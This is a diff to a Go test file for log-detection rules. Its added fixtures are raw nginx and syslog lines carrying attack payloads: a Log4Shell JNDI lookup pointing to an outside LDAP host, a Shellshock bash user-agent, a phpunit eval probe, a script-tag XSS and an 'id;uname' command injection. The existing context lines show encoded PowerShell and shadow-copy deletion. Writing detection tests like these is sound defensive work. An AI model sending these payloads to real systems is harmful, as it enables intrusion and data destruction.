@@ -145,6 +145,10 @@ func TestRulesOnRawLines(t *testing.T) {
 	web := func(ip, user, request string, status, size int) string {
 		return fmt.Sprintf(`<190>Nov 22 10:00:00 may-01 nginx: %s - %s [22/Nov/2026:10:00:00 +0700] "%s HTTP/1.1" %d %d "-" "Mozilla/5.0"`, ip, user, request, status, size)
 	}
+	access := func(request string, status int, agent string) string {
+		return fmt.Sprintf(`<190>Nov 22 10:00:00 may-01 nginx: 203.0.113.9 - - [22/Nov/2026:10:00:00 +0700] "%s" %d 162 "-" "%s"`, request, status, agent)
+	}
+	times := func(n int, line string) []string { return repeat(n, func(int) string { return line }) }
 	ssh := func(word, user, ip string) string {
 		return syslog("sshd[2211]", "%s password for %s from %s port 40122 ssh2", word, user, ip)
 	}
@@ -225,6 +229,15 @@ func TestRulesOnRawLines(t *testing.T) {
 		{"proc_creation_win_powershell_encoded", wire.FormatJSON, false, 0, []string{winlogbeat("Security", "Microsoft-Windows-Security-Auditing", 4688, `{"NewProcessName":"`+powershell+`","CommandLine":"powershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgACcAbQBhAHUA"}`)}},
 		{"proc_creation_win_shadow_copies_deleted", wire.FormatJSON, false, 0, []string{winlogbeat("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, `{"Image":"C:\\Windows\\System32\\vssadmin.exe","CommandLine":"vssadmin delete shadows /all /quiet"}`)}},
 		{"win_defender_malware_or_disabled", wire.FormatJSON, false, 0, []string{winlogbeat("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", 1116, `{"Threat Name":"Trojan:Win32/Example"}`)}},
+
+		{"lnx_auth_service_password_guessing", wire.FormatSyslog, false, 10 * time.Second, times(12, "<86>Nov 22 10:00:00 web-01 proftpd: pam_unix(proftpd:auth): authentication failure; logname= uid=0 euid=0 tty=/dev/ftpd1 ruser=an rhost=203.0.113.9  user=an")},
+		{"lnx_auth_su_failed_burst", wire.FormatSyslog, false, 20 * time.Second, times(6, "<85>Nov 22 10:00:00 web-01 su[77]: FAILED SU (to root) an on pts/0")},
+		{"lnx_sshd_guessing_throttled", wire.FormatSyslog, false, 20 * time.Second, times(6, "<86>Nov 22 10:00:00 web-01 sshd[77]: drop connection #4 from [203.0.113.9]:37004 on [10.0.0.1]:22 penalty: failed authentication")},
+		{"web_jndi_lookup", wire.FormatSyslog, false, 0, []string{access("GET / HTTP/1.1", 200, "${jndi:ldap://203.0.113.7:1389/a}")}},
+		{"web_shellshock", wire.FormatSyslog, false, 0, []string{access("GET /cgi-bin/status HTTP/1.1", 404, "() { :; }; /bin/bash -c id")}},
+		{"web_phpunit_eval", wire.FormatSyslog, false, 0, []string{access("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, "Mozilla/5.0")}},
+		{"web_cross_site_scripting", wire.FormatSyslog, false, 0, []string{access("GET /tim-kiem?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, "Mozilla/5.0")}},
+		{"web_command_injection", wire.FormatSyslog, false, 0, []string{access("GET /?c=id%3Buname%20-a HTTP/1.1", 200, "Mozilla/5.0")}},
 
 		{"hoalu_source_silent", wire.FormatJSON, true, 0, []string{note(health.SourceSilent)}},
 		{"hoalu_source_degraded", wire.FormatJSON, true, 0, []string{note(health.SourceThin)}},
